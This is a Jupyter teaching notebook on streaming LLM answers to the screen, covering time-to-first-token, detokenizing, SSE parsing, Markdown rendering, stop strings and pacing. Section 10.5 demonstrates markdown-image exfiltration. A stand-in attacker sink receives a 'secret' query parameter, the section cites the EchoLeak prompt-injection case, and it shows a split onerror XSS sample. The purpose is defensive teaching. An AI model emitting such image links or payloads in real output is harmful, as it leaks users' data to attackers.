# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # 10 · Streaming to the screen
#
# ![Layer 10 of 12: streaming](images/layer_10.svg)
#
# The answer exists on the server long before you can read it. This chapter measures
# every step from the server to your eye, breaks each one and repairs it.
#
# *35 minutes · needs the weights (98 MB, fetched once); no GPU, no key. At the end
# you can say where the milliseconds before the first word went, cut a stream anywhere
# without losing a character, and draw a growing answer without drawing it again.*
#
# **Click into the first cell and press Shift+Enter; then go on in the same way.**

# %% tags=["plumbing"]
from labkit.book import start

lab = start(chapter=10)
lab.opening()
# If labkit is missing: this book has no public address yet to install it from, so run
# `make lab` in a copy of the project and open the chapter there.

# %% [markdown]
# **Scene.** You asked how many r's are in "strawberry" 🍓. Your request passed the
# gateway, became one prompt, was cut into tokens and was computed by the model. Now
# the sampler gives one token id after another. A token id is not text, because its
# bytes may end in the middle of a character. Text is not yet an event on the wire, and
# an event is not yet a word on your screen. This chapter follows the answer along that
# way. The lit part of the picture above is this layer. The box below it takes a prompt
# of your own, which the stream of section 10.1 then takes as well.

# %% tags=["plumbing"]
from itertools import pairwise
from time import time_ns

from labkit.book import claim
from labkit.records import Layer
from labkit.widgets import SSEInspector, StreamView, TraceBar, TTFTWaterfall

recorded = lab.replay_trace("request")

# %% [markdown]
# ## 10.1 Where do the milliseconds before the first word go?
#
# The *time to first token* (TTFT) is the time from sending a request to the first
# text of its answer. A person feels it as "it is thinking". The time from each token
# to the next is the *time per output token* (TPOT).
#
# Our prompt has 34 tokens, and nobody else is asking. Before you measure: which part of
# the TTFT is the largest?

# %%
guess_part = lab.predict(
    "The largest part of the wait for a short prompt on an idle server",
    options=["connect", "tokenize", "queue", "prefill", "flush"],
)
guess_part

# %% [markdown]
# Now watch a stream. The answer to our own request is too short for that, so the cell
# asks for a story. The server sends it as *server-sent events* (SSE): one HTTP answer
# that stays open, in which every event ends with a blank line.
#
# **What to look at.** Each dot is an event at the moment it arrived. The darker a piece
# of text is shaded, the less probable it was: point at it to see its probability. While
# the text is arriving, press **Stop** (Tab reaches it, Enter presses it). Then change
# the prompt or raise **Max tokens** and press **Start**.

# %% tags=["measurement"]
tale = [{"role": "user", "content": "Tell me a long story about a lighthouse."}]
scores = {"temperature": 0.7, "logprobs": True, "top_logprobs": 3}
view = lab.follow(StreamView(lab.server, tale, max_tokens=60, **scores))
lab.show(view)
view.run()

# %% tags=["plumbing", "measurement"]
seen = view.pace
usual, worst = seen.gap_p50_ms or 0.0, seen.gap_p99_ms or 0.0
lab.md(
    f"**What you saw.** {seen.num_texts} pieces of text arrived. The first one came "
    f"after {seen.first_text_ms or 0:,.0f} ms. After that, half of the gaps between "
    f"two pieces were no longer than {usual:.1f} ms (p50), and 99 % of them were no "
    f"longer than {worst:.1f} ms (p99). The difference between the two is the *jitter*."
)

# %% [markdown]
# The server writes down when each of its own steps begins and ends, and the client
# writes down when each event arrives. `lab.trace` brings both onto one clock. The next
# cell records three requests: the short prompt, a long prompt, and the short prompt
# again while three long ones are ahead of it.
#
# **What to look at.** The three bars on top compare the whole waits. The rows below are
# the parts of one of them, in the order in which they began. Choose a row, and the line
# at the bottom says what happens in it.

# %% tags=["measurement"]
foxes = "The quick brown fox jumps over the lazy dog. " * 60
# each long prompt begins in its own way, so that none finds another in the cache
prompts = [f"It is {time_ns()} ns. {foxes}How many foxes?" for _ in range(4)]
first, *others = ([{"role": "user", "content": prompt}] for prompt in prompts)
knobs = {"max_tokens": 4, "temperature": 0.0}
short, long = (lab.trace(m, **knobs) for m in (lab.request, first))
ahead = [lab.server.stream(m, **knobs) for m in others]
behind = lab.trace(lab.request, **knobs)
for stream in ahead:
    stream.cancel()

# %% tags=["plumbing", "measurement"]
for trace, label in ((short, "short"), (long, "long"), (behind, "behind three")):
    trace.meta["label"] = label
waterfall = TTFTWaterfall([short, long, behind])
parts = [{row.name: row.ms for row in w.rows} for w in waterfall.waterfalls]
totals = [w.total_ms for w in waterfall.waterfalls]
waterfall

# %% tags=["measurement"]
mostly = max(guess_part.options, key=lambda name: parts[0].get(name, 0.0))
guess_part.reveal(mostly, "Measured on this machine, just now.")

# %% tags=["plumbing", "measurement"]
largest = [max(part, key=part.__getitem__) for part in parts]
told = [
    f"**{name}** with {part[name] / total:.0%} of {total:,.0f} ms ({label})"
    for part, name, total, label in zip(
        parts, largest, totals, ("short", "long", "behind three"), strict=True
    )
]
lab.md(
    f"**What you saw.** The largest part is {'; '.join(told)}. Where a bar has a "
    "gap, a later part was running, and that time is counted there."
)

# %% [markdown]
# **Why.** The TTFT is the sum of the parts in the picture. In groups, all in seconds,
# and with what lies between two parts counted to the group before it:
#
# $$\mathrm{TTFT}=t_{network}+t_{server}+t_{queue}+t_{prefill}+t_{sample}+t_{flush}$$
#
# Here $t_{network}$ is connect, request and wait, and $t_{server}$ is parse, render,
# tokenize and detokenize. Prefill grows with your own prompt, because every token of it
# has to be computed. The queue grows with the prompts of other people, because their
# tokens are computed first. The network is short here, since client and server share
# one machine. A *decode* part may appear although no second token is shown yet: the
# engine does not wait for the network, so it computes the second token while the first
# one travels.

# %% tags=["plumbing", "measurement"]
lab.table(
    ["part", "what happens in it", "short, ms", "long, ms"],
    [
        (row.name, row.about, f"{row.ms:,.2f}", f"{parts[1].get(row.name, 0.0):,.2f}")
        for row in waterfall.waterfalls[0].rows
    ],
)

# %% tags=["plumbing"]
gaps = [abs(t - sum(part.values())) for t, part in zip(totals, parts, strict=True)]
claim("The parts of each request add up to its TTFT.", max(gaps) < 0.05)  # rounded
claim(
    "The prefill of the long prompt takes longer than that of the short prompt.",
    parts[1]["prefill"] > parts[0]["prefill"],
)
claim(
    "The short prompt waits longer in the queue when three long prompts are ahead.",
    parts[2]["queue"] > parts[0]["queue"],
)

# %% [markdown]
# **In production.** NVIDIA's guide counts the queue, the prefill and the network into
# the TTFT and skips first events that are empty ([NIM benchmarking
# 2.0.0](https://docs.nvidia.com/nim/benchmarking/llm/2.0.0/metrics.html)).
# OpenTelemetry has two measures: `gen_ai.client.operation.time_to_first_chunk` begins
# when the client sends, and `gen_ai.server.time_to_first_token` begins on the server
# ([conventions](https://github.com/open-telemetry/semantic-conventions-genai),
# status: development, read November 2026). Ask which of them your dashboard shows.

# %% [markdown]
# ## 10.2 What comes first: a chunk, a token or a character?
#
# Three moments follow one press of the button, and they are not the same moment.
#
# - The *first chunk* is the first event on the wire. In OpenAI's dialect it brings the
#   role `assistant` and no text.
# - The *first token* is the first id that the sampler gives.
# - The *first text* is the first character that you can see.
#
# A token may end inside a character. The Korean sentence in the next cell has 85
# tokens, and many of them do. How many pieces of text come out of 85 tokens?

# %%
guess_pieces = lab.predict("Pieces of text from 85 tokens", between=(1, 85))
guess_pieces

# %%
from labkit.text.detokenizer import StreamDetokenizer

korean = "모든 인간은 태어날 때부터 자유로우며 그 존엄과 권리에 있어 동등하다."
ids = lab.tokenizer.encode(korean)
detokenizer = StreamDetokenizer(lab.tokenizer.token_bytes)
pieces = [detokenizer.feed(token_id) for token_id in ids]
visible = [piece for piece in pieces if piece]
guess_pieces.reveal(len(visible))

# %% [markdown]
# **Why.** A Korean syllable has three bytes in UTF-8, and most tokens here are a part
# of one. Decoded alone, such a token can only be shown as the replacement character
# `�`. The detokenizer keeps the bytes of an unfinished character until the rest has
# come.

# %%
lab.source(StreamDetokenizer)

# %% tags=["plumbing", "nbval-check-output"]
alone = [lab.tokenizer.token_bytes(i).decode("utf-8", "replace") for i in ids]
num_broken = sum("�" in text for text in alone)
joined = "".join(pieces) + detokenizer.flush()
claim("The Korean sentence has 85 tokens.", len(ids) == 85)
claim("Decoded alone, 84 of them show a replacement character.", num_broken == 84)
claim("Behind the detokenizer, 46 tokens bring no text.", len(ids) - len(visible) == 46)
claim("The pieces of text join to the sentence again.", joined == korean)

# %% [markdown]
# A *stop string* delays text in every language. It is a text at which the answer has to
# end, and it must not be shown, not even its beginning. The greedy answer to our
# request begins with `The answer is "1"`. If the stop string is `The answer is 2`,
# then after each of the first tokens the text could still become it.
#
# **What to look at.** The table tells which token brings the first text, counted from
# 0.

# %% tags=["nbval-check-output"]
plain = lab.trace(lab.request, **knobs)
held = lab.trace(lab.request, max_tokens=8, temperature=0.0, stop="The answer is 2")
first_texts = [t.marks_named("first_text")[0].key.token for t in (plain, held)]
names = ["without a stop string", "with a stop string"]
lab.table(["request", "token that brings text"], zip(names, first_texts, strict=True))

# %% tags=["plumbing", "nbval-check-output"]
marks = {name: held.marks_named(f"first_{name}")[0] for name in ("token", "text")}
claim("Without a stop string, the first token is visible at once.", first_texts[0] == 0)
claim(
    "With a stop string, tokens are held until they cannot become the stop string.",
    first_texts[1] > 0,
)
claim(
    "With a stop string, the first text comes later than the first token.",
    marks["text"].time_s > marks["token"].time_s,
)

# %% [markdown]
# **In production.** vLLM holds back as many characters as its longest stop string has,
# less one, whatever the text is. Users reported the empty first chunks that follow from
# it, and a maintainer called them intended
# ([vllm#11089](https://github.com/vllm-project/vllm/issues/11089), 2025). Our server
# holds only text that could still begin a stop string. Section 10.6 measures the
# difference.

# %% [markdown]
# ## 10.3 What survives when the network cuts a stream?
#
# A network may cut a stream into pieces at any byte. Take the first twelve events of a
# recorded answer and cut their bytes in two, once at every possible place. A parser
# that is right reads the same events each time. At how many places will ours read other
# events?

# %%
guess_cuts = lab.predict("Places where a cut changes the events", between=(0, 1000))
guess_cuts

# %% tags=["plumbing"]
import json

from labkit.net.relay import cut_points, recut, relay
from labkit.records import Faults
from labkit.text.sse import SSEParser

story = lab.replay_streams("story")
recordings = {name: story.frames(name) for name in ("openai", "anthropic")}
raw = (
    [  # the same frames, with characters as UTF-8 and not as \uXXXX
        b"data: " + json.dumps(json.loads(f[6:]), ensure_ascii=False).encode() + b"\n\n"
        for f in recordings["openai"][:-1]
    ]
    + recordings["openai"][-1:]
)
whole = b"".join(raw[:12])


# %%
def events_of(pieces):
    parser = SSEParser()
    return [event for piece in pieces for event in parser.feed(piece)]


want = events_of([whole])
changed = [i for i in range(1, len(whole)) if events_of(recut(whole, [i])) != want]
guess_cuts.reveal(len(changed), f"All {len(whole) - 1:,} places were tried.")

# %% [markdown]
# A first attempt at a parser often trusts the network: it takes every piece for whole
# events. The next cell counts the places where such a naive parser goes wrong.


# %%
def naive_events(pieces):
    texts = [piece.decode("utf-8", "replace") for piece in pieces]
    frames = [frame for text in texts for frame in text.split("\n\n") if frame]
    return [frame.removeprefix("data: ") for frame in frames]


want_naive = naive_events([whole])
cuts = range(1, len(whole))
lost = [i for i in cuts if naive_events(recut(whole, [i])) != want_naive]
lab.md(f"The naive parser goes wrong at **{len(lost):,} of {len(cuts):,}** places.")

# %% [markdown]
# The inspector sends a whole recorded answer through an unkind network. It has the
# answer in two dialects: OpenAI's sends small changes, called *deltas*, and at the end
# one chunk with the *usage*, which is the number of tokens. Anthropic's sends typed
# events, with a usage at the start and again at the end.
#
# **What to look at.** Pick an event on the right: its frame and its bytes light up on
# the left. Then change the faults and compare the two cards below: what does each
# parser still understand?

# %%
inspector = SSEInspector({**recordings, "openai, raw UTF-8": raw}, relay)
inspector.show("openai", Faults(chunk_bytes=64))
inspector

# %% tags=["plumbing"]
real, naive = inspector.real, inspector.naive
lab.md(
    f"**What you saw.** From pieces of 64 bytes our parser reads {real.num_read} "
    f"events and has the whole text. The naive parser understands {naive.num_read} "
    f"of them and finds {naive.num_lost} scraps that it cannot read."
)

# %% [markdown]
# Now the connection is lost for good. Whoever pays for the answer needs its usage.
# The next cell ends each recording at 200 random places and counts how often the client
# has been told some usage before.

# %% tags=["plumbing"]
from labkit.dialects.readers import reader
from labkit.dialects.wire import ChunkReader


def usage_after(dialect, num_bytes):
    received = b"".join(recordings[dialect])[:num_bytes]
    chunks = ChunkReader(reader(dialect)).feed(received)
    return next((c.usage for c in reversed(chunks) if c.usage), None)


def known(dialect):
    places = cut_points(len(b"".join(recordings[dialect])), 200, seed=0)
    return sum(usage_after(dialect, n) is not None for n in places) / len(places)


# %% tags=["nbval-check-output"]
known_shares = {dialect: known(dialect) for dialect in recordings}
rows = [(dialect, f"{share:.0%}") for dialect, share in known_shares.items()]
lab.table(["dialect", "cuts after which a usage is known"], rows)

# %% tags=["plumbing", "nbval-check-output"]
is_known_more = known_shares["anthropic"] > known_shares["openai"]
claim("No cut in two changes the events that our parser reads.", not changed)
claim("Most cuts in two break the naive parser.", len(lost) > len(whole) / 2)
claim(
    "After a lost connection, a usage is known more often from Anthropic's events.",
    is_known_more,
)

# %% [markdown]
# **In production.** OpenAI's reference says that an interrupted stream may not bring
# its usage chunk (`stream_options.include_usage`, in the `openai` package). Anthropic's
# reference says that the counts in `message_delta` are cumulative, so a client that
# adds them up counts twice. PostHog corrected that in October 2026 ([release
# 7.75.4](https://github.com/PostHog/posthog-python/releases/tag/posthog-v7.75.4)).
# OpenAI's client does not tell when `[DONE]`, the end of a stream, never came: check
# for it yourself. The stream view of section 10.1 does, and then calls the stream
# broken.

# %% [markdown]
# ## 10.4 How often is the same paragraph parsed?
#
# An answer in Markdown grows piece by piece. A page that renders *the whole text* for
# every piece parses the first paragraph again each time. A page that keeps finished
# *blocks*, such as paragraphs and lists, parses only the last one again. By what factor
# does the first page parse more characters?

# %%
guess_work = lab.predict("Full re-parse costs how many times as much", between=(1, 100))
guess_work

# %% [markdown]
# **What to look at.** Press **Start**: three renderers get the same text in your own
# browser, at the speed at which a model writes. Try to select a word in each of them
# meanwhile. A selection is lost when its node is thrown away and written anew. After
# the race, the line at the bottom says who ended with the same page.

# %%
from pathlib import Path

from labkit.widgets import MarkdownRace

essay = Path("data/10_answer.md").read_text(encoding="utf-8")
lab.show(MarkdownRace(essay, chunk_chars=24))

# %% [markdown]
# The milliseconds of the race are your browser's alone. So the next cell counts
# something that is the same on every machine: the characters that the package's own two
# renderers parse.

# %% tags=["nbval-check-output"]
from labkit.text.markdown import MarkdownStream, Strategy, render

names = {Strategy.FULL: "full re-parse", Strategy.MEMO: "block memo"}
chunks = [essay[i : i + 24] for i in range(0, len(essay), 24)]
streams = {strategy: MarkdownStream(strategy) for strategy in names}
for stream in streams.values():
    for chunk in chunks:
        stream.feed(chunk)
    stream.flush()
full, memo = (stream.work for stream in streams.values())

# %% tags=["plumbing", "nbval-check-output"]
lab.table(
    ["renderer", "characters parsed", "blocks written"],
    [
        (name, f"{work.num_chars_parsed:,}", f"{work.num_blocks_written:,}")
        for name, work in zip(names.values(), (full, memo), strict=True)
    ],
)

# %%
guess_work.reveal(round(full.num_chars_parsed / memo.num_chars_parsed, 1))

# %% tags=["plumbing", "nbval-check-output"]
sums = sum(min(24 * k, len(essay)) for k in range(1, len(chunks) + 1))
pages = {stream.html for stream in streams.values()}
claim(
    "The full re-parse parses 1 chunk, then 2 chunks, and so on up to all of them.",
    full.num_chars_parsed == sums,
)
claim(
    "The block memo parses less than a seventh of what the full re-parse parses.",
    memo.num_chars_parsed * 7 < full.num_chars_parsed,
)
claim(
    "The full re-parse and the block memo end with the same page.",
    pages == {render(essay)},
)

# %% [markdown]
# **Why.** With *n* equal chunks the full re-parse parses $1+2+\dots+n=n(n+1)/2$ chunks,
# while a text that is parsed once costs *n*. Keeping blocks is not enough by itself,
# because Markdown looks ahead: a link may be used before its address is defined further
# down. So the block memo renders everything once more at the end. The streaming parser
# of the race never looks back, and therefore it may end with another page.
#
# **In production.** Chrome's guide says: append new nodes instead of setting
# `innerHTML`, parse as a stream, and sanitise all the text that has accumulated
# ([2025-01-21](https://developer.chrome.com/docs/ai/render-llm-responses)).

# %% [markdown]
# ## 10.5 When is a piece of an answer safe to show?
#
# The text of a model is untrusted: somebody who wrote a page that the model has read
# may have written a part of its answer. Two rules guard against it, and they sound
# alike. *Check each piece before you show it.* *Check the whole text each time it
# grows.*
#
# In the next cell an image, whose address carries a secret, arrives in two pieces. How
# many of the two pieces contain an image when each is checked alone?

# %%
guess_found = lab.predict(
    "Pieces in which a check finds an image", options=["0", "1", "2"]
)
guess_found

# %%
from labkit.net.sink import Sink
from labkit.text.links import LinkPolicy

sink = Sink()  # stands for the attacker's server; it ends with this kernel
trusting = LinkPolicy(image_hosts=None)
pieces = ["Here you are: ![logo](" + sink.url, "/pixel.gif?secret=4711) Done."]
found = ["<img" in render(piece, trusting) for piece in pieces]
guess_found.reveal(str(sum(found)), "Each piece was checked alone.")

# %% [markdown]
# The next cell shows the whole text as a page would that trusts it. You need not click
# anything: the secret leaves when your browser paints the image. (A page without a
# kernel shows no output here, since the cell is meant for your own browser.)

# %% tags=["live"]
from IPython.display import HTML

HTML(render("".join(pieces), trusting))

# %% tags=["live"]
sink.wait(3.0)  # until somebody asks, but not for longer
asked = [f"GET {path}" for path in sink.hits]
lab.md(
    f"The attacker's server has received this request: `{asked[-1]}`"
    if asked
    else "No browser has painted the image yet. Scroll up to it, then run this again."
)

# %% tags=["plumbing", "nbval-check-output"]
leak, kept = (render("".join(pieces), p) for p in (trusting, LinkPolicy()))
claim("Neither piece alone contains an image.", not any(found))
claim(
    "A page that trusts the whole text loads the address with the secret.",
    "secret=4711" in leak and "<img" in leak,
)
claim("A page with a list of allowed hosts loads no image.", "<img" not in kept)
claim("Its reader is told that an image was left out.", "lab-image-blocked" in kept)

# %% [markdown]
# **Why.** EchoLeak carried data out of Microsoft 365 Copilot in this way in 2025
# (CVE-2025-32711): an injected instruction wrote an image's address, and the page
# painted the image. A piece is not a document, so only the accumulated text can be
# judged.
#
# Cleaning HTML piece by piece fails in another way as well: the attack stays out, but
# honest markup is broken. **What to look at:** the two columns of each row.

# %% tags=["plumbing", "nbval-check-output"]
from labkit.text.sanitise import sanitise_html

texts = {
    "honest": ["A <b>bold", " claim</b>."],
    "attack": ["<img src=x onerr", "or=alert(1)>"],
}
cleaned = {
    name: ("".join(map(sanitise_html, parts)), sanitise_html("".join(parts)))
    for name, parts in texts.items()
}
rows = [(name, f"`{a}`", f"`{b}`") for name, (a, b) in cleaned.items()]
lab.table(["text", "cleaned piece by piece", "cleaned whole"], rows)

# %% tags=["plumbing", "nbval-check-output"]
by_piece, at_once = cleaned["honest"]
harmless = "onerror" not in cleaned["attack"][1]
claim("Cleaned whole, both bold words stay bold.", at_once == "A <b>bold claim</b>.")
claim("Cleaned piece by piece, one bold word is lost.", by_piece != at_once)
claim("Cleaned whole, the attack has no handler any more.", harmless)

# %% [markdown]
# ## 10.6 What does a stop string cost the reader?
#
# Section 10.2 has shown that text is held back while it could still become a stop
# string. There are two ways to decide how much. The *fixed* way always holds as many
# characters as the longest stop string has, less one. The *exact* way holds only an end
# of the text that is the beginning of a stop string. In a text that never stops, how
# many characters does the exact way hold on average?

# %%
guess_held = lab.predict(
    "Characters held on average, stop = '\\nUser:'", between=(0, 5)
)
guess_held

# %%
from labkit.text.detokenizer import StopMatcher

stop = "\nUser:"
matcher, waiting = StopMatcher([stop]), []
for character in essay:
    matcher.feed(character)
    waiting.append(len(matcher.held))
mean, fixed = sum(waiting) / len(waiting), len(stop) - 1
guess_held.reveal(round(mean, 3), f"The fixed way always holds {fixed}.")

# %% [markdown]
# A stop string may also arrive in several tokens. A server that looks for it in each
# piece of text alone never finds it. The next cell sends `\nUser:` in three pieces.

# %% tags=["plumbing", "nbval-check-output"]
token_pieces = ["Sure.", "\nUs", "er", ": hi"]
careless = "".join(piece for piece in token_pieces if stop not in piece)
safe = StopMatcher([stop])
shown = "".join(safe.feed(piece) for piece in token_pieces)
claim("Looking into each piece alone misses the stop string.", stop in careless)
claim("Our stop matcher shows no part of the stop string.", shown == "Sure.")
claim("The exact way holds less than a tenth of the fixed way.", mean < 0.1 * fixed)

# %% [markdown]
# ## 10.7 Is a smooth stream a fast stream?
#
# Your eye notices gaps, not averages. So take the recorded stream and treat it in three
# ways. It may be shown *as it came*. It may be *coalesced*: a proxy collects eight
# events and passes them on together. It may be *paced*: the pieces are shown at equal
# intervals, and the first one is delayed until no later piece can miss its turn. Which
# way has the smallest 99th percentile (p99) of the gaps?

# %%
guess_smooth = lab.predict(
    "Smallest p99 gap", options=["as it came", "coalesced by 8", "paced"]
)
guess_smooth

# %%
came = [chunk.time_s * 1000 for chunk in story.chunks() if chunk.text]  # ms
last = len(came) - 1
coalesced = [came[min(i | 7, last)] for i in range(len(came))]  # with its eighth
gap = (came[-1] - came[0]) / last
delay = max(time - came[0] - gap * i for i, time in enumerate(came))
paced = [came[0] + delay + gap * i for i in range(len(came))]

# %% tags=["plumbing", "nbval-check-output"]
from labkit.figures.pace import percentile

ways = {"as it came": came, "coalesced by 8": coalesced, "paced": paced}
p99 = {
    name: percentile([b - a for a, b in pairwise(times)], 99)
    for name, times in ways.items()
}
rows = [
    (name, f"{times[0]:.1f}", f"{times[-1]:.1f}", f"{p99[name]:.1f}")
    for name, times in ways.items()
]
lab.table(["stream", "first text, ms", "last text, ms", "p99 gap, ms"], rows)

# %%
guess_smooth.reveal(min(p99, key=p99.__getitem__))

# %% tags=["plumbing", "nbval-check-output"]
claim("Coalescing does not make the end later.", coalesced[-1] == came[-1])
claim(
    "Coalescing has the largest p99 gap of the three.",
    max(p99.values()) == p99["coalesced by 8"] > p99["as it came"],
)
smallest = min(p99, key=p99.__getitem__)
claim("Pacing has the smallest p99 gap of the three.", smallest == "paced")
claim("Pacing makes the first text later.", paced[0] > came[0])

# %% [markdown]
# **Why.** With *N* tokens, the whole answer takes
# $\mathrm{E2E}=\mathrm{TTFT}+\mathrm{TPOT}\,(N-1)$, where E2E is the time from the
# request to the last token (*end to end*), in seconds. Pacing changes no token's
# computation. It buys equal gaps with a later start and a later end.
#
# **In production.** Vercel's AI SDK has pacing as `smoothStream`: whole words, 10 ms
# apart unless you say otherwise
# ([reference](https://v6.ai-sdk.dev/docs/reference/ai-sdk-core/smooth-stream), read
# November 2026). It finds words by their blanks, so the reference asks you to bring a
# rule of your own for Japanese or Chinese.

# %% [markdown]
# ## What you may have heard
#
# | You may have heard | What settles it |
# |---|---|
# | "The typing effect is an animation." | The claim below shows that it is not. |
# | "The TTFT is the latency of the model." | Section 10.1 shows what is added. |
# | "If every piece is cleaned, the page is safe." | Section 10.5 shows it is not. |
# | "The usage always arrives." | Section 10.3: a lost connection takes it along. |

# %% tags=["nbval-check-output"]
lab.section()  # asks nothing first
tokens = plain.marks_named("token")
claim(
    "The server makes the tokens of an answer one after another.",
    all(a.time_s < b.time_s for a, b in pairwise(tokens)),
)

# %% [markdown]
# ## Exercises
#
# Put your answer in place of `...` and run the cell. `lab.hint("10.1")` gives a hint.
#
# **1.** The TTFT is 800 ms, the TPOT is 20 ms, and the answer has 101 tokens. When does
# the last token arrive, in seconds? Give a number, or a function of
# `(ttft_s, tokens, tpot_s)`.

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.1", ...)

# %% tags=["solution", "nbval-check-output"]
lab.check("10.1", lambda ttft_s, tokens, tpot_s: ttft_s + tpot_s * (tokens - 1))

# %% [markdown]
# **2.** Write a function `events(tokens)`. It gets the bytes of each token and returns
# how many events carry text. For the Korean sentence it has to return what you saw in
# section 10.2.

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.2", ...)

# %% tags=["solution", "nbval-check-output"]
import codecs


def events(tokens):
    decoder = codecs.getincrementaldecoder("utf-8")("replace")
    return sum(decoder.decode(token) != "" for token in tokens)


claim(
    "The function agrees with section 10.2.",
    events(map(lab.tokenizer.token_bytes, ids)) == len(visible),
)
lab.check("10.2", events)

# %% [markdown]
# **3.** A renderer keeps finished blocks and parses the open block again with every
# chunk. Each block of an answer has 8 chunks. How many chunks does it parse in all for
# an answer of 200 chunks? Give a number, or a function of the number of chunks.

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.3", ...)


# %% tags=["solution", "nbval-check-output"]
def parsed(num_chunks):
    whole, rest = divmod(num_chunks, 8)
    return whole * (8 * 9 // 2) + rest * (rest + 1) // 2


lab.check("10.3", parsed)

# %% [markdown]
# **4. Change the engine.** Users write `user:` or `USER:` where the stop string is
# `User:`. Write a stop matcher that ignores upper and lower case. It has to keep what
# the engine's own matcher keeps: no text is lost, no part of a stop string is shown,
# and nothing waits without need. Give the class, for example `class
# AnyCase(StopMatcher)`. Here is the engine's own.

# %%
lab.source(StopMatcher)

# %% tags=["exercise", "nbval-check-output"]
lab.check("10.4", ...)


# %% tags=["solution", "nbval-check-output"]
def one_case(text):  # of the same length, whatever the text is
    return "".join(c.lower() if len(c.lower()) == 1 else c for c in text)


class AnyCase(StopMatcher):
    def __init__(self, stops):
        super().__init__([one_case(stop) for stop in stops])

    def _first_hit(self, text):
        return super()._first_hit(one_case(text))

    def _num_to_hold(self, text):
        return super()._num_to_hold(one_case(text))


lab.check("10.4", AnyCase)

# %% [markdown]
# ## Where you are
#
# The answer has come back up: token ids became characters, characters became events,
# and events became something to read. The picture shows the request's life once more,
# with this layer's part lit.

# %% tags=["plumbing"]
from labkit.figures.timeline import life

own = life(recorded).cells[Layer.STREAMING.chapter - 1]
answer = lab.replay_streams("streams")
num_bytes = len(b"".join(answer.frames("openai")))
lab.md(
    f"This layer took **{own.ms:.2f} ms** of {recorded.end_s * 1000:.0f} ms. It made "
    f"**{num_bytes:,} bytes** of events out of {len(answer.text().encode())} bytes of "
    "text. It costs nothing on the bill, because tokens are charged and events are not."
)

# %%
TraceBar(recorded, lit=Layer.STREAMING)

# %% [markdown]
# **What production systems do differently.** They have a proxy or two in between, and
# turn its buffering off. Their pages use frameworks that collect the changes of a
# frame. They can resume a stream by an id, which our server cannot. They watch
# percentiles over millions of streams where you watched one.
#
# **Next door.** In chapter 11 the answer is not text but a call to a tool.

# %% [markdown]
# ## Sources
#
# - WHATWG, *Server-sent events*, html.spec.whatwg.org/multipage/server-sent-events.html
# - CommonMark 0.31.2, spec.commonmark.org/0.31.2
# - Chrome, *Best practices to render streamed LLM responses*, 2025-01-21
# - NVIDIA, *NIM LLMs benchmarking* 2.0.0, metrics
# - OpenTelemetry, *Semantic conventions for generative AI*, read 2026-11
# - vLLM issue 11089; PostHog Python release 7.75.4; Vercel AI SDK, `smoothStream`
# - The outline follows *End-to-End LLM Stack Trace: From Keystroke to Streamed Token*
#   (2026, CC0)
